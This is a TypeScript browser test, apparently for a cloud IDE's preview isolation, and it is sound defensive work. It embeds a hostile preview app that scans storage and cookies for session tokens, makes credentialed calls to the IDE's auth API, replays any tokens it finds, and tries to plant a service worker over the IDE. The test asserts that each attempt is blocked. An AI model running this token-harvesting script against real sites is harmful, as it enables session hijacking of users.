/**
 * The attack an outside review made, replayed in Chromium: a project's app, opened through its preview by a
 * `read` member who is signed in to the IDE, tries to take over that member's session (read their tokens, call
 * the API as them, run exec in their own project, plant a service worker over the IDE). It must fail, while the
 * same app's cookies, fetches, WebSockets and service worker keep working in its own origin.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { buildIde, launchChromium } from '../helpers/browser.js';
import { ApiClient, signUp, type SignedIn } from '../helpers/http.js';
import { previewFetch } from '../helpers/preview.js';
import { createProject, exec, sh, startProcess } from '../helpers/sandbox.js';

/** The hostile app: it probes what it can reach and reports to its own server (GET /reports lists reports). */
const APP = String.raw`
const http = require('http'), crypto = require('crypto');
const reports = [];
const script = String.raw` + '`' + String.raw`
(async () => {
  const ide = new URLSearchParams(location.search).get('ide');
  const where = window.top === window ? 'tab' : 'frame';
  const r = { where, origin: location.origin };
  const found = [];
  const look = (text) => { for (const m of String(text).match(/eyJ[\w-]+\.[\w-]+\.[\w-]+|vf_[\w]+/g) || []) found.push(m); };
  try { look(JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie); r.ownStorage = 'read'; } catch (e) { r.ownStorage = 'blocked'; }
  try { look(JSON.stringify({ ...window.top.localStorage })); r.top = 'read'; } catch (e) { r.top = 'blocked'; }
  try { look(window.top.document.cookie); r.topCookie = 'read'; } catch (e) { r.topCookie = 'blocked'; }
  try {
    const res = await fetch(ide + '/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' });
    const text = await res.text(); look(text); r.refresh = 'read ' + res.status;
  } catch (e) { r.refresh = 'blocked'; }
  try { await fetch(ide + '/api/v1/auth/refresh', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }); r.blindRefresh = 'sent'; } catch (e) { r.blindRefresh = 'blocked'; }
  r.tokens = found;
  for (const token of found.filter((t) => t.startsWith('eyJ'))) {
    await fetch(ide + '/api/v1/projects', { headers: { authorization: 'Bearer ' + token } }).then(() => (r.usedToken = true), () => {});
  }
  try { await navigator.serviceWorker.register(ide + '/sw.js', { scope: ide + '/' }); r.swOnIde = 'registered'; } catch (e) { r.swOnIde = 'refused'; }
  if (where === 'tab') {
    try { await navigator.serviceWorker.register('/sw.js', { scope: '/' }); await navigator.serviceWorker.ready; r.sw = 'registered'; } catch (e) { r.sw = 'refused ' + e.message; }
    await fetch('/login', { method: 'POST' });
    r.cookie = (await (await fetch('/whoami')).json()).cookie;
    r.ws = await new Promise((resolve) => {
      const s = new WebSocket(location.origin.replace('http', 'ws') + '/hmr');
      s.onmessage = (e) => { resolve(String(e.data)); s.close(); };
      s.onerror = () => resolve('error');
    });
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(r) });
  document.title = 'reported';
  setTimeout(() => { throw new Error('boom from the app'); });
})();
` + '`' + String.raw`;
const sw = "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim())); self.addEventListener('fetch', (e) => { if (new URL(e.request.url).pathname === '/sw-check') e.respondWith(new Response('from the service worker')); else if (!e.request.url.startsWith(self.location.origin)) e.respondWith(new Response('pwned')); });";
const server = http.createServer((q, r) => {
  const path = q.url.split('?')[0];
  if (path === '/') { r.setHeader('content-type', 'text/html'); return r.end('<html><head><title>app</title><script src="/app.js"></script></head><body>app</body></html>'); }
  if (path === '/app.js') { r.setHeader('content-type', 'text/javascript'); return r.end(script); }
  if (path === '/sw.js') { r.setHeader('content-type', 'text/javascript'); r.setHeader('service-worker-allowed', '/'); return r.end(sw); }
  if (path === '/login') { r.setHeader('set-cookie', 'app_session=s3cret; Path=/; HttpOnly; SameSite=Lax'); return r.end('ok'); }
  if (path === '/whoami') { r.setHeader('content-type', 'application/json'); return r.end(JSON.stringify({ cookie: q.headers.cookie || null })); }
  if (path === '/reports') { r.setHeader('content-type', 'application/json'); return r.end(JSON.stringify(reports)); }
  let body = ''; q.on('data', (c) => (body += c));
  q.on('end', () => { if (path === '/report') reports.push(JSON.parse(body)); r.end('ok'); });
});
server.on('upgrade', (q, socket) => {
  const accept = crypto.createHash('sha1').update(q.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
  socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' + accept + '\r\n\r\n');
  socket.write(Buffer.concat([Buffer.from([0x81, 5]), Buffer.from('hello')]));
});
server.listen(3000);
`;

interface Report {
  where: 'tab' | 'frame';
  origin: string;
  tokens: string[];
  top: string;
  topCookie: string;
  refresh: string;
  blindRefresh: string;
  usedToken?: boolean;
  swOnIde: string;
  sw?: string;
  cookie?: string | null;
  ws?: string;
}

let t: TestApp;
let ide: Awaited<ReturnType<typeof buildIde>>;
let browser: Browser;
let api: ApiClient;
let attacker: SignedIn;
let victim: SignedIn;
let hostileProject: string;
let victimProject: string;
let previewUrl: string;
const password = 'correct horse battery';

async function reports(): Promise<Report[]> {
  return JSON.parse((await previewFetch(t.baseUrl, `${previewUrl}reports`)).text) as Report[];
}

beforeAll(async () => {
  ide = await buildIde();
  t = await startTestApp({ env: { IDE_DIST_DIR: ide.distDir } });
  api = new ApiClient(t.baseUrl);
  browser = await launchChromium();
  attacker = await signUp(api, 'attacker', password);
  victim = await signUp(api, 'victim', password);
  hostileProject = await createProject(api, attacker);
  victimProject = await createProject(api, victim);
  const added = await api.post(`/api/v1/projects/${hostileProject}/members`, {
    token: attacker.accessToken,
    body: { email: victim.email, role: 'read' },
  });
  expect(added.status, added.text).toBe(201);
  await exec(api, attacker, hostileProject, 'cat > server.js', { stdin: APP });
  await startProcess(api, attacker, hostileProject, 'node server.js');
  await sh(api, attacker, hostileProject, 'for i in $(seq 50); do curl -s localhost:3000/reports >/dev/null && exit 0; sleep 0.1; done; exit 1');
  const opened = await api.post(`/api/v1/projects/${hostileProject}/preview`, { token: victim.accessToken });
  expect(opened.status, opened.text).toBe(200);
  previewUrl = opened.body.url;
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await t?.services.sandboxes.destroy(hostileProject).catch(() => {});
  await t?.services.sandboxes.destroy(victimProject).catch(() => {});
  await t?.close();
  await ide?.remove();
});

async function signInToIde(page: Page): Promise<void> {
  await page.goto(t.baseUrl);
  await page.getByTestId('auth-email').fill(victim.email);
  await page.getByTestId('auth-password').fill(password);
  await page.getByTestId('auth-submit').click();
  await page.getByTestId('project-row').first().waitFor();
}

describe('a hostile preview', () => {
  it("cannot take over the session of a member who opens it, in a frame of the IDE or in a tab", { timeout: 90_000 }, async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(20_000);
    try {
      const idePage = await context.newPage();
      await signInToIde(idePage);
      const target = `${previewUrl}?ide=${encodeURIComponent(t.baseUrl)}`;

      // Framed in the IDE's page, as the preview panel shows it; the IDE hears of the app's errors.
      await idePage.evaluate(`window.previewMessages = []; addEventListener('message', (e) => previewMessages.push({ origin: e.origin, data: e.data }))`);
      await idePage.evaluate(`(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(target)}; document.body.append(f); })()`);
      await expect.poll(async () => (await reports()).some((r) => r.where === 'frame'), { timeout: 20_000 }).toBe(true);
      // And in a tab of its own ("open in new tab").
      const tab = await context.newPage();
      await tab.goto(target);
      await expect.poll(() => tab.title(), { timeout: 20_000 }).toBe('reported');

      const all = await reports();
      expect(all.map((r) => r.where).sort()).toEqual(['frame', 'tab']);
      for (const report of all) {
        expect(new URL(report.origin).hostname).toMatch(/^[a-z2-7]{26}\.preview\.localhost$/);
        expect(report.tokens).toEqual([]);
        expect(report.usedToken).toBeUndefined();
        expect(report.swOnIde).toBe('refused');
        // The API's answer to a cross-origin credentialed call cannot be read, and the refresh cookie is not sent.
        expect(report.refresh).toBe('blocked');
      }
      expect(all.find((r) => r.where === 'frame')).toMatchObject({ top: 'blocked', topCookie: 'blocked' });
      const previewOrigin = new URL(previewUrl).origin;
      await expect
        .poll(() => idePage.evaluate<string>('JSON.stringify(previewMessages)'), { timeout: 10_000 })
        .toContain('boom from the app');
      const messages = JSON.parse(await idePage.evaluate<string>('JSON.stringify(previewMessages)')) as Array<{
        origin: string;
        data: { type: string; kind?: string; message?: string };
      }>;
      expect(messages.every((m) => m.origin === previewOrigin)).toBe(true);
      expect(messages.map((m) => m.data.type)).toContain('vaporform.preview.loaded');
      expect(messages.find((m) => m.data.kind === 'exception')?.data.message).toContain('boom from the app');

      // The victim's session survived every attempt, and the IDE is still the IDE, not the app's service worker.
      await idePage.reload();
      await idePage.getByTestId('project-row').first().waitFor();
      expect(await idePage.evaluate('navigator.serviceWorker.controller === null')).toBe(true);
      const me = await idePage.evaluate<string>(`fetch('/api/v1/auth/me').then((r) => r.text())`);
      expect(JSON.parse(me)).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
      // Nothing ran in the victim's own project.
      const files = await api.get(`/api/v1/projects/${victimProject}/files/tree`, { token: victim.accessToken });
      expect(files.status, files.text).toBe(200);
      expect(JSON.stringify(files.body)).not.toContain('pwned');
    } finally {
      await context.close();
    }
  });

  it("keeps the app's own cookies, WebSockets, fetches and service worker working in its origin", { timeout: 60_000 }, async () => {
    const tabReport = (await reports()).find((r) => r.where === 'tab');
    expect(tabReport).toMatchObject({ sw: 'registered', cookie: 'app_session=s3cret', ws: 'hello' });
    const context = await browser.newContext();
    try {
      const tab = await context.newPage();
      await tab.goto(`${previewUrl}?ide=${encodeURIComponent(t.baseUrl)}`);
      await expect.poll(() => tab.title(), { timeout: 20_000 }).toBe('reported');
      await tab.reload();
      await expect.poll(() => tab.evaluate('navigator.serviceWorker.controller !== null'), { timeout: 20_000 }).toBe(true);
      expect(await tab.evaluate<string>(`fetch('/sw-check').then((r) => r.text())`)).toBe('from the service worker');
    } finally {
      await context.close();
    }
  });
});
